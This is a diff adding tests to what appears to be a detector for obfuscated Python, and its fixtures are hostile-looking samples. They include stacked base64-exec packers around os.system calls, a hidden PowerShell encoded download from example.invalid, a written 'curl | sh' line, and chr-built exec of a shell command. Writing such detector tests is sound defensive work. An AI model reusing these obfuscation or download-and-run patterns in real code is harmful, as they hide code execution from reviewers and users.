@@ -136,6 +136,27 @@ def test_code_in_strings_is_analysed_in_place() -> None:
     assert facts(f"exec(__import__('base64').b64decode('{twice}'))").values["syntax.evaluation_depth"] == 2
 
 
+def test_deep_stacks_of_packers_are_followed() -> None:
+    code = "import os\nos.system('whoami')"
+    for _ in range(5):
+        coded = base64.b64encode(code.encode()).decode()
+        code = f"import base64 as b;exec(b.b64decode('{coded}'))"
+    assert seen(code)["host.identity"].hidden
+
+
+def test_base64_inside_a_command_is_decoded() -> None:
+    coded = base64.b64encode("Invoke-WebRequest https://example.invalid/x -OutFile y".encode("utf-16-le")).decode()
+    source = f"import subprocess\nsubprocess.Popen('powershell -w hidden -enc {coded}')"
+    assert "Invoke-WebRequest https://example.invalid/x -OutFile y" in texts(source)
+
+
+def test_functions_of_the_module_stand_before_builtins() -> None:
+    assert "code.evaluate" not in seen("def compile(x):\n    return x\ncompile('a')\n")
+    assert "code.evaluate" in seen("class A:\n    def exec(self): pass\nexec(x)\n")
+    assert "code.evaluate" in seen("def f(exec): pass\nexec(x)\n")
+    assert "code.evaluate" in seen("exec = exec\nexec(x)\n")
+
+
 def test_zlib_lambda_chain() -> None:
     inner = base64.b64encode(zlib.compress(b"import os\nos.system('whoami')"))[::-1].decode()
     source = (
@@ -321,3 +342,17 @@ def test_registry_knows_python() -> None:
         b'{"cells": [{"cell_type": "code", "source": [1]}]}',
     ):
         assert book.analyse(broken, DEFAULT_LIMITS).observations == []
+
+
+def test_a_written_command_is_classified() -> None:
+    source = "f = open('x', 'a')\nf.write('curl -s https://example.invalid/x | sh')"
+    assert seen(source)["spawn.piped"].api == "written:spawn.piped"
+    assert set(seen("f = open('x', 'w')\nf.write('A line of ordinary text about curl.')")) == {"file.write"}
+
+
+def test_numbers_dressed_as_text_are_read() -> None:
+    number = (
+        "int(float(str('....336.719.{}..582').split('..')[int(float(2 * 55 / 55))].split('.')[int(float(2 * 7 / 7))]))"
+    )
+    source = "exec(''.join(map(chr, [" + ", ".join(number.format(ord(c)) for c in "import os;os.system('id')") + "])))"
+    assert seen(source)["spawn.shell"].hidden
